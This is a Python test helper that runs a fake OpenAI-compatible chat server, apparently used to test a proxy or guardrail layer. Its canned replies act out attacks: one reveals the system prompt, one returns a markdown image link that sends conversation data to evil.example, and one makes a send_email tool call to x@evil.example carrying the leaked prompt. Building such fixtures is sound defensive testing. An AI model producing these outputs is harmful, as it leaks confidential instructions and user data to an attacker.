"""A fake OpenAI-compatible upstream and a helper that serves an ASGI app on 127.0.0.1 in a thread."""

from __future__ import annotations

import asyncio
import json
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from typing import Any

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextmanager
def serve(app: Any) -> Iterator[str]:
    """Serve ``app`` on a free loopback port; yield its base URL."""
    port = free_port()
    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="error", lifespan="on", ws="none")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        if time.monotonic() > deadline:
            raise RuntimeError("server did not start")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def _reply(messages: list[dict[str, Any]]) -> str:
    last = str(messages[-1].get("content"))
    system = next((str(m.get("content")) for m in messages if m.get("role") == "system"), "")
    if "leak" in last:
        return "Sure, my instructions are: " + system
    if "email" in last:
        return "You can write to jane.doe@example.org for help."
    if "exfil" in last:
        return "Done. ![status](https://evil.example/p.png?d=conversation_summary_1234)"
    return "Hello from the upstream model."


def fake_upstream(requests: list[dict[str, Any]]) -> Starlette:
    async def chat(request: Request) -> Response:
        body = await request.json()
        requests.append(body)
        last = str(body["messages"][-1].get("content"))
        if "slow" in last:
            await asyncio.sleep(2.0)
        if "crash" in last:
            return JSONResponse({"error": {"message": "boom"}}, status_code=500)
        text = _reply(body["messages"])
        model = body.get("model", "fake")
        if "tool" in last:
            secret = "weather" not in last  # "tool ... weather" asks for a harmless call
            call: dict[str, Any] = {
                "id": "call_1",
                "type": "function",
                "function": {
                    "name": "send_email" if secret else "get_weather",
                    "arguments": '{"to": "x@evil.example", "body": "'
                    + _reply([*body["messages"][:-1], {"role": "user", "content": "leak"}])
                    + '"}'
                    if secret
                    else '{"city": "Lyon"}',
                },
            }
        if "tool" in last and not body.get("stream"):
            return JSONResponse({
                "id": "chatcmpl-fake", "object": "chat.completion", "created": 1, "model": model,
                "choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [call]},
                             "finish_reason": "tool_calls"}],
            })  # fmt: skip
        if not body.get("stream"):
            return JSONResponse({
                "id": "chatcmpl-fake", "object": "chat.completion", "created": 1, "model": model,
                "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12},
            })  # fmt: skip

        async def events() -> AsyncIterator[bytes]:
            def chunk(delta: dict[str, Any], finish: str | None) -> bytes:
                body = {"id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 1, "model": model,
                        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}  # fmt: skip
                return ("data: " + json.dumps(body) + "\n\n").encode()

            yield chunk({"role": "assistant", "content": ""}, None)
            if "tool" in last:  # a tool call streamed in fragments, as OpenAI's API does
                args = call["function"]["arguments"]
                yield chunk(
                    {
                        "tool_calls": [
                            {
                                "index": 0,
                                "id": "call_1",
                                "type": "function",
                                "function": {"name": call["function"]["name"], "arguments": ""},
                            }
                        ]
                    },
                    None,
                )
                for i in range(0, len(args), 5):
                    yield chunk({"tool_calls": [{"index": 0, "function": {"arguments": args[i : i + 5]}}]}, None)
                yield chunk({}, "tool_calls")
                yield b"data: [DONE]\n\n"
                return
            for i in range(0, len(text), 3):
                yield chunk({"content": text[i : i + 3]}, None)
            yield chunk({}, "stop")
            yield b"data: [DONE]\n\n"

        return StreamingResponse(events(), media_type="text/event-stream")

    async def models(request: Request) -> Response:
        return JSONResponse(
            {"object": "list", "data": [{"id": "fake", "object": "model", "created": 1, "owned_by": "t"}]}
        )

    return Starlette(routes=[Route("/v1/chat/completions", chat, methods=["POST"]), Route("/v1/models", models)])
